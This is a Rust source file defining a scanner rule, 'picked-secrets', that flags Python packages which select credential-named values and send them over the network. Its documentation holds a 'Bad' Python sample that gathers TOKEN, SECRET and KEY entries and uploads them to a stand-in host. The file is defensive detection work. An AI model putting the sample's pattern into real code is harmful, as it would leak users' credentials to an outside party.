//! ## What it detects
//!
//! What code has picked out because its name says that it is a token, a key or a password, sent as data.
//!
//! ## Why it is bad
//!
//! Nobody looks for credentials by their names among other people's settings, variables and headers to send them
//! somewhere, but who steals them.
//!
//! ## Innocent lookalikes
//!
//! Loggers and error reporters look for the same names to take them out. Proxies hand on headers as headers.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import requests
//! def load(values):
//!     found = {k: v for k, v in values.items() if any(w in k.upper() for w in ('TOKEN', 'SECRET', 'KEY'))}
//!     requests.put('https://x.example.invalid/v.json', json=found)
//!     return values
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import requests
//! def report(values):
//!     kept = {k: v for k, v in values.items() if not any(w in k.upper() for w in ('TOKEN', 'SECRET', 'KEY'))}
//!     requests.put('https://x.example.invalid/v.json', json=kept)
//! ```

use fondaco_python::{Api, Taint, signs_in};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use super::secret_exfiltration::of;
use crate::sending::sent;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("picked-secrets"),
    title: "looks for credentials by their names and sends them",
    severity: Severity::High,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.8,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    let sends = |api: Option<Api>| matches!(api, Some(Api::NetworkSend | Api::NetworkFetch));
    for (unit, call) in package.calls().filter(|(_, call)| sends(call.api) && call.trigger.is_some()) {
        let carries = sent(call).any(|(name, value)| !signs_in(name) && of(value).has(Taint::PICKED));
        if carries && !call.callee.contains(".recv") {
            hits.call(unit, call, format!("{} of what is named like credentials", call.callee));
        }
    }
}
